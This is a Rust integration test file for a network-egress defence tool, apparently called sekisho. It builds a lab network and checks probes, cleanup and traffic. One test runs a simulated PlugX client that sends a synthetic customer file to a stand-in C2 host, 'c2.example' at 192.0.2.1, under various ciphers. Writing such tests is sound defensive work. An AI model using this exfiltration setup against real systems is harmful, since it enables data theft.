//! The laboratory itself: what it builds works, and nothing of it stays behind.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a laboratory fails loudly"
)]

use sekisho_integration::actors::cipher::SETTINGS;
use sekisho_integration::actors::{customers_file, sha256};
use sekisho_integration::matrix::{Escapes, Lifelines};
use sekisho_integration::topology::{BACKUP, C2, CUSTOMERS, MIRROR, RESOLVER, WEB};
use sekisho_integration::{Network, wait_for};
use std::process::Command;
use std::time::Duration;

#[test]
fn every_probe_gets_through_while_nothing_is_cut() {
    let network = Network::build();
    let mut escapes = Escapes::open(&network);
    let mut lifelines = Lifelines::open(&network);
    escapes.assert_open();
    lifelines.assert_open();
    assert_eq!(escapes.leaks().len(), escapes.len());
}

#[test]
fn a_probe_that_is_cut_is_seen_to_be_cut() {
    let network = Network::build();
    let mut escapes = Escapes::open(&network);
    // The gateway stands in for a cut: the laboratory must be able to tell.
    network.gw.run("nft add table inet stand-in");
    network.gw.run("nft add chain inet stand-in forward { type filter hook forward priority 0 ; }");
    network.gw.run("nft add rule inet stand-in forward iifname to-web drop");
    escapes.assert_cut();
}

#[test]
fn a_laboratory_leaves_nothing_behind() {
    let (names, dir) = {
        let network = Network::build();
        let _sink = network.c2.actor(&["sink", "--port", "80"]);
        (network.web.netns.clone(), network.lab.dir().to_owned())
    };
    let prefix = names.trim_end_matches("web-1");
    let left =
        String::from_utf8(Command::new("ip").args(["netns", "list"]).output().unwrap().stdout)
            .unwrap();
    assert!(!left.contains(prefix), "{left}");
    assert!(!dir.exists());
}

#[test]
fn legitimate_traffic_loses_nothing_by_itself() {
    let network = Network::build();
    let _web = network.web.actor(&["http-serve", "--port", "80"]);
    let _mirror = network.mirror.actor(&["http-serve", "--port", "80"]);
    let _backup = network.backup.actor(&["http-serve", "--port", "8200"]);
    let mut customers = network.customers.actor(&["browse", "--to", &format!("{WEB}:80")]);
    let mut updates = network.web.actor(&["updates", "--to", &format!("{MIRROR}:80")]);
    let mut backup = network.web.actor(&["backup", "--to", &format!("{BACKUP}:8200")]);
    for actor in [&mut customers, &mut updates, &mut backup] {
        let report = wait_for("ten exchanges", Duration::from_secs(10), || {
            Some(actor.ask("report")).filter(|report| report["done"].as_u64() >= Some(10))
        });
        assert_eq!(report["lost"], 0, "{report}");
    }
    assert!(network.customers.run("ip -br -4 addr show dev eth0").contains(CUSTOMERS));
}

#[test]
fn without_sekisho_the_theft_arrives_whole_under_every_cipher() {
    let network = Network::build();
    let file = network.lab.dir().join("customers.csv");
    let loot = customers_file(150_000);
    std::fs::write(&file, &loot).unwrap();
    let _resolver = network.gw.actor(&["dns-serve", "--table", &format!("c2.example={C2}")]);
    for (nth, (name, _)) in SETTINGS.iter().enumerate() {
        let cut = ["whole", "split", "two-in-one", "one-byte"][nth % 4];
        let setting = if nth % 5 == 4 { format!("{name}+after-key") } else { (*name).to_owned() };
        let port = 4000 + nth;
        let c2 = network.c2.actor(&[
            "plugx-c2",
            "--settings",
            &format!("{port}={setting}"),
            "--theft-after-ms",
            "30",
        ]);
        let mut client = network.web.actor(&[
            "plugx-client",
            "--to",
            &format!("192.0.2.1:{port}"),
            "--resolver",
            RESOLVER,
            "--name",
            "c2.example",
            "--setting",
            &setting,
            "--cut",
            cut,
            "--keep-alive-ms",
            "20",
            "--file",
            file.to_str().unwrap(),
        ]);
        let done = wait_for("the theft to end", Duration::from_secs(10), || {
            Some(client.ask("report")).filter(|report| report["finished"] == true)
        });
        let report = c2.finish();
        assert_eq!(report["stolen_bytes"], 150_000, "{name} {cut}: {report} {done}");
        assert!(
            report["keep_alives"].as_u64() >= Some(1)
                && (200..=400).contains(&report["machine_info_bytes"].as_u64().unwrap()),
            "{report}"
        );
        assert_eq!(report["chunks"][0]["sha256"], sha256(&loot[..0xF000]));
    }
}
